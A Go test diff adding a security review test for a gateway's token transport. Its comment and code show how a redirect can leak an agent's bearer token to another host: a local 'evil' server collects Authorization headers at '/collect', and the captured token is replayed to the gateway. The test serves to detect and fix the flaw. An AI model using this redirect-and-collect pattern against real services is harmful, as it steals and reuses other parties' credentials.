@@ -14,6 +14,7 @@ import (
 	"io"
 	"net"
 	"net/http"
+	"net/http/httptest"
 	"os"
 	"path/filepath"
 	"runtime"
@@ -370,5 +371,42 @@ func TestReviewFinding12_PrettyPrintedMessagesAreRefused(t *testing.T) {
 	_, _, body, err = post(gw2+"/mcp", callEcho(7), 10*time.Second)
 	if err != nil || !strings.Contains(body, `"result"`) {
 		t.Errorf("an upstream response written by json.Encoder: %s %v", body, err)
+	}
+}
+
+// Finding 13: TokenTransport puts a fresh token on every request its
+// client sends, redirects included: net/http strips an Authorization
+// header that the caller set from a redirect to another host, but one the
+// transport adds on each round trip goes to whatever host the redirect
+// names. A 307 from the endpoint (a misconfigured proxy, an http→https
+// hop to another name, an open redirect) hands a fresh, unused token of
+// the agent to a third party, which can spend it at the gateway first.
+func TestReviewFinding13_TokenTransportSendsTokensAcrossRedirects(t *testing.T) {
+	up := echoServer(t, nil)
+	gw, _ := newGateway(t, identityPolicy, up, gateway.Config{}, server.Config{TokenCredential: []byte(credential)})
+	leaked := make(chan string, 4)
+	evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		leaked <- r.Header.Get("Authorization")
+	}))
+	defer evil.Close()
+	redirector := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		http.Redirect(w, r, strings.Replace(evil.URL, "127.0.0.1", "localhost", 1)+"/collect", http.StatusTemporaryRedirect)
+	}))
+	defer redirector.Close()
+	hc := &http.Client{Transport: &gateway.TokenTransport{Tokens: tokenClient(t, gw)}, Timeout: 10 * time.Second}
+	req, _ := http.NewRequest("POST", redirector.URL+"/mcp", strings.NewReader(initialize))
+	req.Header.Set("Content-Type", "application/json")
+	req.Header.Set("Accept", "application/json, text/event-stream")
+	if resp, err := hc.Do(req); err == nil {
+		resp.Body.Close()
+	}
+	select {
+	case auth := <-leaked:
+		if auth != "" {
+			status, _, _ := rawPost(t, gw+"/mcp", initialize, "Authorization: "+auth)
+			t.Errorf("another host received the agent's token across a redirect (and the gateway accepts it from there: %d)", status)
+		}
+	case <-time.After(5 * time.Second):
+		t.Log("the redirect was not followed")
 	}
 }
